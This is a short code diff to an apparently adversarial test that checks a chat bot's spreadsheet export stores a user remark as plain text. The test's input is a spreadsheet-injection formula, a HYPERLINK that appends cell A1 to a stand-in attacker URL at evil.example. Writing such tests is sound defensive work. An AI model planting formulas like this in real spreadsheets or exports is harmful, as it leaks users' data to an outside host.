@@ -9,6 +9,7 @@ from openpyxl import load_workbook
 
 from tests.adversarial.conftest import AGENT, OWNER, Arena
 from tests.adversarial.tally import Counts
+from tests.e2e.export_helpers import export_document
 
 pytestmark = pytest.mark.asyncio(loop_scope="module")
 
@@ -74,10 +75,9 @@ async def test_a_formula_remark_is_exported_as_text(arena: Arena, tally: Counts)
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
     await bed.say(OWNER, OWNER, f"/remark @li_shop {formula}")
     tally.cases += 1
-    sent = await bed.say(OWNER, OWNER, "/export")
-    documents = [m for m in sent if m.document]
-    assert documents, [m.text for m in sent]
-    data = bed.sandbox.file_bytes(documents[-1].document["file_id"])  # type: ignore[index]
+    document = (await export_document(bed, OWNER)).document  # the file follows the export job
+    assert document is not None
+    data = bed.sandbox.file_bytes(document["file_id"])
     workbook = load_workbook(io.BytesIO(data))
     cells = [
         cell
